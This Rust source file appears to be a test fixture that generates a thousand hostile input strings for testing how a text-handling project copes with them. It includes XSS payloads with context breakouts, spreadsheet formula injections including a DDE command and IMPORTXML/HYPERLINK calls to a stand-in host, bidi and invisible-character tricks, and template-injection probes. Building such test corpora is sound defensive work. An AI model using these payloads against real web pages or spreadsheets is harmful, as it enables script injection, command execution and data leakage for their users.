//! A thousand strings that would like to be more than text: markup, scripts, addresses, directions, invisible
//! letters, stacks of marks, formulas, texts without end, impossible dates and numbers.
//!
//! They are made by rule, so that everyone has the same thousand. Whatever runs would set
//! `fieldbookHit`; whatever is asked for would go to `hostile.invalid`.

/// How many there are.
pub const COUNT: usize = 1000;

/// What a script of a payload would do.
const HIT: &str = "globalThis.fieldbookHit=1";

/// Elements that run a script by themselves, `{}` standing for it.
const ELEMENTS: [&str; 20] = [
    "<script>{}</script>",
    "<img src=x onerror=\"{}\">",
    "<svg onload='{}'>",
    "<svg><script>{}</script></svg>",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>",
    "<iframe src=\"javascript:{}\"></iframe>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<object data=\"javascript:{}\"></object>",
    "<embed src=\"javascript:{}\">",
    "<math><mtext><script>{}</script></mtext></math>",
    "<a href=\"javascript:{}\">x</a>",
    "<form action=\"javascript:{}\"><button>x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<link rel=stylesheet href=\"https://hostile.invalid/{}\">",
    "<base href=\"https://hostile.invalid/\"><script src=x></script>{}",
    "<style>@import 'https://hostile.invalid/{}';</style>",
    "<template shadowrootmode=open><script>{}</script></template>",
];

/// What stands before an element to leave what it stands in.
const BREAKOUTS: [&str; 15] = [
    "",
    "\">",
    "'>",
    "</noscript>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    "</bdi>",
    "</li></ol>",
    "\u{0}",
    "%3E",
    "&quot;&gt;",
];

const BIDI: [&str; 10] = [
    "\u{202a}", "\u{202b}", "\u{202d}", "\u{202e}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}",
    "\u{200f}", "\u{061c}",
];

const INVISIBLE: [&str; 10] = [
    "\u{200b}",
    "\u{200c}",
    "\u{200d}",
    "\u{2060}",
    "\u{feff}",
    "\u{ad}",
    "\u{34f}",
    "\u{180e}",
    "\u{fff9}",
    "\u{e0041}",
];

const FORMULAS: [&str; 10] = [
    "=HYPERLINK(\"https://hostile.invalid/\",\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "=IMPORTXML(\"https://hostile.invalid/\",\"//a\")",
];

const BREAKERS: [&str; 10] = [
    "<",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "<!--",
    "<![CDATA[",
    "</",
    "{{7*7}}",
    "${7*7}",
    "\u{2028}x\u{2029}",
    "]}\"'`\\",
];

const ODD: [&str; 10] = [
    "9999-99-99",
    "-0001-02-30",
    "2020-13",
    "1e999",
    "NaN",
    "Infinity",
    "-1",
    "0x10",
    "99999999999999999999",
    "2020-02-30/2019",
];

/// Payload number `at`, from 0 to [`COUNT`].
pub fn payload(at: usize) -> String {
    let pick = |list: &[&str], at: usize| list.get(at % list.len()).copied().unwrap_or_default().to_owned();
    match at {
        0..300 => {
            let element = pick(&ELEMENTS, at).replace("{}", HIT);
            format!("{}{element}", pick(&BREAKOUTS, at / ELEMENTS.len()))
        }
        300..450 => format!(
            "{}abc {} عربي {}",
            pick(&BIDI, at),
            pick(&BIDI, at / 10),
            pick(&BIDI, at / 3).repeat(1 + at % 20)
        ),
        450..600 if at.is_multiple_of(2) => {
            format!("na{}me{at}{}", pick(&INVISIBLE, at / 2), pick(&INVISIBLE, at))
        }
        450..600 => format!("z{}{at}", "\u{300}\u{323}\u{489}".repeat(1 + at % 60)),
        600..750 => format!("{}{at}", pick(&FORMULAS, at)),
        750..850 => format!("{}{at}{}", pick(&BREAKERS, at), pick(&BREAKERS, at / 10)),
        850..950 => pick(&["W", "wide ", "ﷺ", "𒐫", "عر"], at).repeat(200 * (1 + at % 50)),
        _ => format!("{} {at}", pick(&ODD, at)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn nearly_all_differ() {
        let all: BTreeSet<String> = (0..COUNT).map(payload).collect();
        assert!(all.len() > 950, "{}", all.len());
    }
}
